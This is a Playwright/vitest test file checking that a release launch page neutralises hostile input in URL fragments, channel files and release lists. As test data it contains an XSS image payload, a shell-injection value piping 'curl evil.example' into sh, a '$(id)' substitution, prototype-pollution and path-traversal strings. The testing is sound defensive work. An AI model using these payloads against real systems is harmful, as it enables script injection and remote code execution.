import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { hasChromium, startChromium } from '../../support/chromium.ts';
import { type OpenOptions, openedBy, type Site, serve } from './opened-page.ts';

const IMG = '<img src=x onerror=alert(1)>';
const SHA = 'b'.repeat(64);

describe.skipIf(!hasChromium())('what the launch page is given by others', () => {
  let browser: Browser;
  let site: Site;
  beforeAll(async () => {
    browser = await startChromium();
  });
  afterAll(() => browser?.close());
  beforeEach(async () => {
    site = await serve();
    return () => site.close();
  });

  /** What somebody sees who opens the page. Nothing that others wrote has become an element, or has run. */
  async function seen(options: OpenOptions = {}) {
    const { page, complaints, requests, close } = await site.open(browser, options);
    try {
      expect(complaints).toEqual([]);
      expect(await page.locator('img, iframe, script:not([src])').count()).toBe(0);
      return {
        link: await openedBy(page),
        notices: await page.locator('#notices').innerText(),
        fault: await page.locator('#go-faults').innerText(),
        options: await page.getByLabel('Release', { exact: true }).locator('option').allInnerTexts(),
        lines: await page.locator('#posix').innerText(),
        requests: [...requests],
      };
    } finally {
      await close();
    }
  }

  test('a fragment names no bucket, host, key, person or secret', async () => {
    const never = [
      'NodeBucketName',
      'ExecutionRoleArn',
      'BindSecretArn',
      'CertificateArn',
      'LdapsHost',
      'ReleaseBucketName',
    ];
    const values = [
      ...never,
      'UserMetadataAccess',
      'PlainListener',
      'PasswordLogin',
      'AdminUser',
      'AdminPublicKey',
      'AlarmEmail',
      '__proto__',
    ];
    const fragment = new URLSearchParams([
      ...values.map((name): [string, string] => [`p.${name}`, 'evil']),
      ...['bucket', 'templateURL', 'host', 'console', 'releases', 'stack', 'region'].map((name): [string, string] => [
        name,
        'evil.example',
      ]),
      ['version', IMG],
      ['name', `'; curl evil.example | sh #`],
      ['p.ClusterName', IMG],
      ['p.Worker1InstanceType', `ml.x'$(id).large`],
    ]).toString();
    const { link, lines, notices, requests } = await seen({ fragment });
    expect(link).toMatchObject({
      host: 'us-west-2.console.aws.amazon.com',
      stackName: 'podlaunch-launchpad',
      parameters: {},
    });
    expect(lines).not.toContain('evil');
    expect(notices).toBe(
      `The address has ${values.length + 2} more values that no link may fill in, or that the template does not take: left out.`,
    );
    expect(requests.join(' ')).not.toContain('evil');
  });

  test('a pattern does not stop the page for a hostile value', async () => {
    const { link } = await seen({ fragment: `p.ClusterName=${'a-'.repeat(2000)}&p.DomainName=${'a.'.repeat(2000)}!` });
    expect(link?.parameters).toEqual({});
  });

  test.each([
    ['terminal escapes', JSON.stringify({ channel: 'latest', version: '0.1.0\u001b[31m', manifestSha256: SHA })],
    ['HTML', JSON.stringify({ channel: 'latest', version: IMG, manifestSha256: SHA })],
    ['a path', JSON.stringify({ channel: 'latest', version: '../../evil', manifestSha256: SHA })],
    ['another channel', JSON.stringify({ channel: 'evil', version: '1.4.0', manifestSha256: SHA })],
    ['no JSON', IMG],
    ['no UTF-8', new Uint8Array([0xff, 0xfe])],
    ['far too much', `{"channel":"latest","version":"1.4.0","manifestSha256":"${SHA}","x":"${'x'.repeat(5_000_000)}"}`],
  ])('a channel file with %s is none', async (_, body) => {
    site.answers.set('channels/latest.json', body);
    const { notices, link } = await seen();
    expect(notices).toBe("The channel latest cannot be read from here: nobody compared this page's release with it.");
    expect(link?.templateURL).toContain('/releases/1.4.0/');
  });

  test('a channel that names another manifest for the release takes the button away', async () => {
    site.answers.set(
      'channels/latest.json',
      JSON.stringify({ channel: 'latest', version: '1.4.0', manifestSha256: 'd'.repeat(64) }),
    );
    const { notices, link, fault } = await seen();
    expect(link).toBeUndefined();
    expect(fault).toContain('Someone has rewritten release 1.4.0');
    expect(notices).toContain('tell the publisher');
  });

  test('a channel that went back is said, and one that went on', async () => {
    const channel = (version: string) => JSON.stringify({ channel: 'latest', version, manifestSha256: SHA });
    site.answers.set('channels/latest.json', channel('1.3.0'));
    expect((await seen()).notices).toContain('went back to the older release 1.3.0');
    site.answers.set('channels/latest.json', channel('1.5.0'));
    expect((await seen()).notices).toContain('now names release 1.5.0');
  });

  test('a release that was withdrawn cannot be launched, and its reason is text', async () => {
    const withdrawn = { at: '2026-11-28T12:00:00Z', why: `${IMG} loses data` };
    const release = { version: '1.4.0', publishedAt: '2026-11-27T12:00:00Z', manifestSha256: SHA, withdrawn };
    site.answers.set('releases.json', JSON.stringify({ releases: [release] }));
    const { link, fault, options } = await seen();
    expect(link).toBeUndefined();
    expect(fault).toBe(`Release 1.4.0 was withdrawn by its publisher: ${IMG} loses data.`);
    expect(options).toEqual(['1.4.0 (2026-11-27, withdrawn)']);
  });

  test.each([
    ['HTML', IMG],
    ['other JSON', '[1, null]'],
    [
      'versions that are none',
      JSON.stringify({ releases: [{ version: IMG, publishedAt: '2026-11-27T12:00:00Z', manifestSha256: SHA }] }),
    ],
    ['far too much', `{"releases":["${'x'.repeat(3_000_000)}"]}`],
  ])('a list of releases with %s is none', async (_, body) => {
    site.answers.set('releases.json', body);
    const { notices, options, link } = await seen();
    expect(notices).toContain('The list of releases cannot be read from here');
    expect(options).toEqual(['1.4.0']);
    expect(link).toBeDefined();
  });

  test.each([
    ['is not the one of the list', '{}', 'is not the one that the list of releases names'],
    ['is not there', undefined, 'cannot be read from here'],
  ])('nothing is launched of a release whose manifest %s', async (_, body, words) => {
    if (body === undefined) site.answers.delete('releases/1.3.0/manifest.json');
    else site.answers.set('releases/1.3.0/manifest.json', body);
    const { link, fault } = await seen({ fragment: 'version=1.3.0' });
    expect(link).toBeUndefined();
    expect(fault).toContain(words);
  });

  test('without a network to releases the page launches its own', async () => {
    const { link, notices, options } = await seen({ blocked: true });
    expect(link?.templateURL).toContain('/releases/1.4.0/');
    expect(notices).toContain('knows its own release only');
    expect(options).toEqual(['1.4.0']);
  });
});
